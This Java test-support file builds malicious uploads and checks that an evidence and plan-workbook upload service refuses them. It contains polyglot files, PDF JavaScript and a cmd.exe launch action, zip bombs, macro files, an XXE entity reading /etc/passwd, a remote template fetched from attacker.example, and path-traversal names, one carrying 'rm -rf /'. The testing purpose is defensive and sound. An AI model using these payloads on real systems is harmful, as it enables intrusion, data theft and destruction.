package org.rectification.support;

import static org.rectification.support.EvidenceSamples.concat;
import static org.rectification.support.EvidenceSamples.pdfOf;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/**
 * Files an attacker uploads, each made here (no downloaded fixtures): polyglots, active content, bombs, disguised
 * archives and programs. Each one is refused with the code given; see MaliciousUploadScenarios.
 */
public final class MaliciousFiles {

	private MaliciousFiles() {
	}

	/** One attack: the name it is uploaded under, its bytes, and the refusal expected. */
	public record Probe(String attack, String fileName, byte[] content, int status, String code) {

		@Override
		public String toString() {
			return attack;
		}

	}

	private static final String SCRIPT = "<html><body><script>fetch('/api/rounds').then(r=>r.text()).then(alert)</script></body></html>";

	/** The evidence upload's probes (POST /api/unit-tasks/{id}/evidence-files). */
	public static List<Probe> evidence() {
		byte[] pdf = EvidenceSamples.pdf("正常的通知");
		byte[] jpeg = EvidenceSamples.jpegWithExif(9);
		byte[] png = EvidenceSamples.png(300);
		return List.of(
				new Probe("HTML page with %PDF- in its first KB", "通知.pdf",
						(SCRIPT + "\n%PDF-1.4\n").getBytes(StandardCharsets.UTF_8), 400, "TYPE_MISMATCH"),
				new Probe("%PDF- header followed by an HTML body", "通知.pdf",
						("%PDF-1.4\n" + SCRIPT).getBytes(StandardCharsets.UTF_8), 400, "CONTENT_UNSAFE"),
				new Probe("%PDF- header followed by text, not parseable", "通知.pdf",
						"%PDF-1.7\nthis is no document at all, just text after a header\n".repeat(40).getBytes(StandardCharsets.UTF_8),
						400, "FILE_CORRUPTED"),
				new Probe("PDF with /OpenAction JavaScript", "通知.pdf", pdfWithCatalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
						400, "ACTIVE_CONTENT"),
				new Probe("PDF with a page annotation running JavaScript", "通知.pdf", pdfWithAnnotationScript(), 400, "ACTIVE_CONTENT"),
				new Probe("PDF with a /JavaScript name tree", "通知.pdf",
						pdfWithCatalog("/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(3)) >>] >> >>"), 400,
						"ACTIVE_CONTENT"),
				new Probe("PDF with a page /AA action running JavaScript", "通知.pdf", pdfWithPageExtra("/AA << /O << /S /JavaScript /JS (app.alert(4)) >> >>"),
						400, "ACTIVE_CONTENT"),
				new Probe("PDF with an embedded file", "通知.pdf", pdfWithEmbeddedFile(), 400, "EMBEDDED_FILE"),
				new Probe("PDF with a /Launch action", "通知.pdf", pdfWithCatalog("/OpenAction << /S /Launch /F (cmd.exe) >>"), 400,
						"ACTIVE_CONTENT"),
				new Probe("PDF with an XFA form", "通知.pdf", pdfWithCatalog("/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>"), 400,
						"ACTIVE_CONTENT"),
				new Probe("encrypted PDF", "通知.pdf", encryptedPdf(), 400, "FILE_ENCRYPTED"),
				new Probe("PDF with a ZIP appended after %%EOF", "通知.pdf", concat(pdf, zipOf("payload.txt", "x")), 400, "CONTENT_UNSAFE"),
				new Probe("PDF with an HTML page after %%EOF", "通知.pdf", concat(pdf, ("\n" + SCRIPT.repeat(30)).getBytes(StandardCharsets.UTF_8)),
						400, "CONTENT_UNSAFE"),
				new Probe("ZIP renamed .pdf", "通知.pdf", zipOf("readme.txt", "hello"), 400, "TYPE_MISMATCH"),
				new Probe("JPEG magic followed by HTML", "现场.jpg",
						concat(new byte[] { (byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0, 0, 16 }, SCRIPT.getBytes(StandardCharsets.UTF_8)),
						400, "CONTENT_UNSAFE"),
				new Probe("JPEG with HTML in a comment segment", "现场.jpg", jpegWithComment(jpeg, SCRIPT), 400, "CONTENT_UNSAFE"),
				new Probe("valid JPEG with HTML and script appended", "现场.jpg", concat(jpeg, SCRIPT.getBytes(StandardCharsets.UTF_8)), 400,
						"CONTENT_UNSAFE"),
				new Probe("GIFAR-style JPEG with a JAR appended", "现场.jpg", concat(jpeg, jar()), 400, "CONTENT_UNSAFE"),
				new Probe("truncated JPEG", "现场.jpg", Arrays.copyOf(jpeg, jpeg.length * 2 / 3), 400, "FILE_CORRUPTED"),
				new Probe("JPEG declaring 60000x60000 pixels", "现场.jpg", jpegDeclaring(jpeg, 60_000, 60_000), 400, "IMAGE_TOO_LARGE"),
				new Probe("PNG magic followed by HTML", "现场.png",
						concat(Arrays.copyOf(png, 8), SCRIPT.getBytes(StandardCharsets.UTF_8)), 400, "CONTENT_UNSAFE"),
				new Probe("valid PNG with a ZIP appended (polyglot)", "现场.png", concat(png, zipOf("index.html", SCRIPT)), 400,
						"CONTENT_UNSAFE"),
				new Probe("PNG declaring 100000x100000 pixels (pixel bomb)", "现场.png", pngDeclaring(100_000, 100_000), 400,
						"IMAGE_TOO_LARGE"),
				new Probe("PNG with a broken chunk CRC", "现场.png", brokenCrc(png), 400, "FILE_CORRUPTED"),
				new Probe("SVG with script renamed .png", "现场.png",
						("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")
							.getBytes(StandardCharsets.UTF_8),
						400, "TYPE_MISMATCH"),
				new Probe("EXE (MZ header) renamed .jpg", "现场.jpg", exe(), 400, "TYPE_MISMATCH"),
				new Probe("docx with vbaProject.bin (macro)", "制度.docx",
						withEntries(EvidenceSamples.docx("宏"), Map.of("word/vbaProject.bin", new byte[512])), 400, "MACRO_NOT_ALLOWED"),
				new Probe("xlsm renamed .xlsx", "台账.xlsx", xlsmAsXlsx(), 400, "MACRO_NOT_ALLOWED"),
				new Probe("xls with a VBA project storage", "台账.xls", xlsWithMacros(), 400, "MACRO_NOT_ALLOWED"),
				new Probe("xls with an Excel 4.0 macro sheet", "台账.xls", xlsWithMacroSheet(), 400, "MACRO_NOT_ALLOWED"),
				new Probe("zip bomb as .docx", "制度.docx", zipBomb("word/document.xml"), 400, "ARCHIVE_UNSAFE"),
				new Probe("docx with a ../ traversal entry", "制度.docx",
						withEntries(EvidenceSamples.docx("穿越"), Map.of("../../evil.sh", "rm -rf /".getBytes(StandardCharsets.UTF_8))), 400,
						"ARCHIVE_UNSAFE"),
				new Probe("docx with an absolute entry name", "制度.docx",
						withEntries(EvidenceSamples.docx("绝对路径"), Map.of("/etc/cron.d/x", new byte[4])), 400, "ARCHIVE_UNSAFE"),
				new Probe("docx without word/document.xml", "制度.docx",
						EvidenceSamples.zip(new String[][] { { "[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>" },
								{ "_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>" } }),
						400, "TYPE_MISMATCH"),
				new Probe("docx with an embedded program", "制度.docx",
						withEntries(EvidenceSamples.docx("程序"), Map.of("word/embeddings/setup.exe", exe())), 400, "EMBEDDED_FILE"),
				new Probe("docx with an OLE package object", "制度.docx",
						withEntries(EvidenceSamples.docx("包"), Map.of("word/embeddings/oleObject1.bin", olePackage())), 400, "EMBEDDED_FILE"),
				new Probe("docx embedding a macro-enabled workbook", "制度.docx",
						withEntries(EvidenceSamples.docx("嵌入宏"), Map.of("word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", xlsmAsXlsx())),
						400, "MACRO_NOT_ALLOWED"),
				new Probe("docx loading a remote template", "制度.docx", remoteTemplate(), 400, "ACTIVE_CONTENT"),
				new Probe("encrypted xlsx", "台账.xlsx", encryptedXlsx(), 400, "FILE_ENCRYPTED"),
				new Probe("HTML renamed .docx", "制度.docx", SCRIPT.getBytes(StandardCharsets.UTF_8), 400, "TYPE_MISMATCH"),
				new Probe("OFD whose OFD.xml declares an external entity (XXE)", "红头文件.ofd", ofdWithXxe(), 400, "CONTENT_UNSAFE"),
				new Probe("traversal name ../../etc/passwd.pdf", "../../etc/passwd.pdf", pdf, 400, "NAME_INVALID"),
				new Probe("Windows traversal name ..\\..\\boot.pdf", "..\\\\..\\\\boot.pdf", pdf, 400, "NAME_INVALID"),
				new Probe("name with a NUL character", "通知.pdf\u0000.exe", pdf, 400, "NAME_INVALID"),
				new Probe("name with a right-to-left override", "通知\u202Efdp.pdf", pdf, 400, "NAME_INVALID"),
				new Probe("Windows device name", "CON.pdf", pdf, 400, "NAME_INVALID"),
				new Probe("empty file", "通知.pdf", new byte[0], 400, "FILE_EMPTY"),
				new Probe("oversize file", "通知.pdf", concat(pdf, new byte[1024 * 1024]), 413, "FILE_TOO_LARGE"));
	}

	/** The plan workbook upload's probes (POST /api/rounds/{id}/plan). */
	public static List<Probe> planWorkbook() {
		return List.of(new Probe("xlsm renamed .xlsx", "方案.xlsx", xlsmAsXlsx(), 400, "MACRO_NOT_ALLOWED"),
				new Probe("xlsx with vbaProject.bin", "方案.xlsx",
						withEntries(PlanWorkbooks.plan().bytes(), Map.of("xl/vbaProject.bin", new byte[512])), 400, "MACRO_NOT_ALLOWED"),
				new Probe("encrypted xlsx", "方案.xlsx", encryptedXlsx(), 400, "FILE_ENCRYPTED"),
				new Probe("zip bomb as .xlsx", "方案.xlsx", zipBomb("xl/workbook.xml"), 400, "ARCHIVE_UNSAFE"),
				new Probe("xlsx with a ../ traversal entry", "方案.xlsx",
						withEntries(PlanWorkbooks.plan().bytes(), Map.of("../../../tmp/evil", new byte[4])), 400, "ARCHIVE_UNSAFE"),
				new Probe("HTML renamed .xlsx", "方案.xlsx", SCRIPT.getBytes(StandardCharsets.UTF_8), 400, "NOT_XLSX"),
				new Probe("traversal name", "../../方案.xlsx", PlanWorkbooks.plan().bytes(), 400, "NAME_INVALID"));
	}

	static byte[] pdfWithCatalog(String extra) {
		return pdfOf("", List.of("<< /Type /Catalog /Pages 2 0 R " + extra + " >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
				"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"), "");
	}

	static byte[] pdfWithPageExtra(String extra) {
		return pdfOf("", List.of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
				"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + " >>"), "");
	}

	static byte[] pdfWithAnnotationScript() {
		return pdfOf("", List.of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
				"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
				"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 5 0 R >>", "<< /S /JavaScript /JS 6 0 R >>",
				"<< /Length 13 >>\nstream\napp.alert(2);\nendstream"), "");
	}

	static byte[] pdfWithEmbeddedFile() {
		return pdfOf("", List.of("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
				"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
				"<< /Names [(setup.exe) 5 0 R] >>", "<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>",
				"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "");
	}

	static byte[] encryptedPdf() {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			document.addPage(new PDPage());
			StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", "user-secret", new AccessPermission());
			policy.setEncryptionKeyLength(128);
			document.protect(policy);
			document.save(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	static byte[] exe() {
		byte[] exe = new byte[1024];
		byte[] stub = "MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u00ff\u00ff".getBytes(StandardCharsets.ISO_8859_1);
		System.arraycopy(stub, 0, exe, 0, stub.length);
		ByteBuffer.wrap(exe).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(0x3c, 0x80);
		byte[] dos = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.ISO_8859_1);
		System.arraycopy(dos, 0, exe, 0x4e, dos.length);
		exe[0x80] = 'P';
		exe[0x81] = 'E';
		return exe;
	}

	static byte[] zipOf(String name, String text) {
		return EvidenceSamples.zip(new String[][] { { name, text } });
	}

	/** A Java archive, as a GIFAR glues one behind an image. */
	static byte[] jar() {
		return EvidenceSamples.zip(new String[][] { { "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n" },
				{ "Evil.class", "\u00ca\u00fe\u00ba\u00be" } });
	}

	/** The JPEG with a comment segment (COM) right after its start, as HTML-in-JPEG polyglots carry their page. */
	static byte[] jpegWithComment(byte[] jpeg, String comment) {
		byte[] text = comment.getBytes(StandardCharsets.UTF_8);
		return concat(new byte[] { (byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xfe, (byte) ((text.length + 2) >> 8),
				(byte) (text.length + 2) }, text, Arrays.copyOfRange(jpeg, 2, jpeg.length));
	}

	/** The JPEG with the frame header (SOF) patched to declare another size. */
	static byte[] jpegDeclaring(byte[] jpeg, int width, int height) {
		byte[] copy = jpeg.clone();
		for (int i = 2; i + 9 < copy.length; i++) {
			if ((copy[i] & 0xff) == 0xff && ((copy[i + 1] & 0xff) == 0xc0 || (copy[i + 1] & 0xff) == 0xc2)) {
				copy[i + 5] = (byte) (height >> 8);
				copy[i + 6] = (byte) height;
				copy[i + 7] = (byte) (width >> 8);
				copy[i + 8] = (byte) width;
				return copy;
			}
		}
		throw new IllegalStateException("no SOF");
	}

	/** A small, valid PNG file whose header declares a huge image. */
	static byte[] pngDeclaring(int width, int height) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' });
		out.writeBytes(EvidenceSamples.pngChunk("IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8)
			.put((byte) 0).put((byte) 0).put((byte) 0).put((byte) 0).array()));
		out.writeBytes(EvidenceSamples.pngChunk("IDAT", EvidenceSamples.deflate(new byte[64 * 1024])));
		out.writeBytes(EvidenceSamples.pngChunk("IEND", new byte[0]));
		return out.toByteArray();
	}

	static byte[] brokenCrc(byte[] png) {
		byte[] copy = png.clone();
		copy[8 + 8 + 13] ^= 0x55;
		return copy;
	}

	/** A ZIP whose listed entries are replaced or added. */
	static byte[] withEntries(byte[] zip, Map<String, byte[]> added) {
		return rezip(zip, added, UnaryOperator.identity());
	}

	static byte[] rezip(byte[] zip, Map<String, byte[]> added, UnaryOperator<String> contentTypes) {
		Map<String, byte[]> entries = new LinkedHashMap<>();
		try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
			for (ZipEntry entry; (entry = in.getNextEntry()) != null;) {
				entries.put(entry.getName(), in.readAllBytes());
			}
			entries.computeIfPresent("[Content_Types].xml",
					(name, content) -> contentTypes.apply(new String(content, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
			entries.putAll(added);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			try (ZipOutputStream zipOut = new ZipOutputStream(out)) {
				for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
					zipOut.putNextEntry(new ZipEntry(entry.getKey()));
					zipOut.write(entry.getValue());
				}
			}
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	/** A macro-enabled workbook (as Excel saves .xlsm) under the .xlsx extension. */
	public static byte[] xlsmAsXlsx() {
		return rezip(PlanWorkbooks.plan().bytes(), Map.of(), types -> types.replace(
				"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
				"application/vnd.ms-excel.sheet.macroEnabled.main+xml"));
	}

	static byte[] xlsWithMacros() {
		try (POIFSFileSystem fs = new POIFSFileSystem(new ByteArrayInputStream(EvidenceSamples.xls("宏")));
				ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			fs.getRoot().createDirectory("_VBA_PROJECT_CUR").createDirectory("VBA")
				.createDocument("dir", new ByteArrayInputStream(new byte[64]));
			fs.writeFilesystem(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	/** An xls whose sheet is declared an Excel 4.0 macro sheet (BOUNDSHEET type 1), as XLM droppers are. */
	static byte[] xlsWithMacroSheet() {
		try (POIFSFileSystem fs = new POIFSFileSystem(new ByteArrayInputStream(EvidenceSamples.xls("宏表")));
				ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			byte[] stream;
			try (InputStream in = fs.createDocumentInputStream("Workbook")) {
				stream = in.readAllBytes();
			}
			for (int at = 0; at + 4 <= stream.length;) {
				int sid = (stream[at] & 0xff) | ((stream[at + 1] & 0xff) << 8);
				int length = (stream[at + 2] & 0xff) | ((stream[at + 3] & 0xff) << 8);
				if (sid == 0x0085) {
					stream[at + 4 + 5] = 1;
					break;
				}
				at += 4 + length;
			}
			fs.createOrUpdateDocument(new ByteArrayInputStream(stream), "Workbook");
			fs.writeFilesystem(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	/** An OLE object wrapping a packaged file (Ole10Native), as "Insert → Object → Package" makes. */
	static byte[] olePackage() {
		try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			fs.createDocument(new ByteArrayInputStream(concat(new byte[] { 0, 4, 0, 0, 2, 0 }, exe())), "\u0001Ole10Native");
			fs.writeFilesystem(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	/** A docx whose settings fetch a template from elsewhere when opened (remote template injection). */
	static byte[] remoteTemplate() {
		String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
				+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
				+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
				+ " Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
		return withEntries(EvidenceSamples.docx("模板"), Map.of("word/_rels/settings.xml.rels", rels.getBytes(StandardCharsets.UTF_8)));
	}

	/** A ZIP whose main entry inflates from about 100KB to 100MB of zeros. */
	static byte[] zipBomb(String mainEntry) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
			zip.write("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>".getBytes(StandardCharsets.UTF_8));
			zip.putNextEntry(new ZipEntry(mainEntry));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < 100; i++) {
				zip.write(zeros);
			}
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
		return out.toByteArray();
	}

	/** A workbook encrypted with a password (Agile encryption, as Excel does); it becomes an OLE2 file. */
	static byte[] encryptedXlsx() {
		try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
			Encryptor encryptor = info.getEncryptor();
			encryptor.confirmPassword("secret");
			try (OPCPackage opc = OPCPackage.open(new ByteArrayInputStream(PlanWorkbooks.plan().bytes()));
					OutputStream encrypted = encryptor.getDataStream(fs)) {
				opc.save(encrypted);
			}
			fs.writeFilesystem(out);
			return out.toByteArray();
		}
		catch (Exception e) {
			throw new IllegalStateException(e);
		}
	}

	static byte[] ofdWithXxe() {
		return EvidenceSamples.zip(new String[][] { { "OFD.xml",
				"<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE ofd:OFD [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
						+ "<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.0\" DocType=\"OFD\"><ofd:DocBody>"
						+ "<ofd:DocInfo><ofd:Title>&xxe;</ofd:Title></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>"
						+ "</ofd:DocBody></ofd:OFD>" } });
	}

}
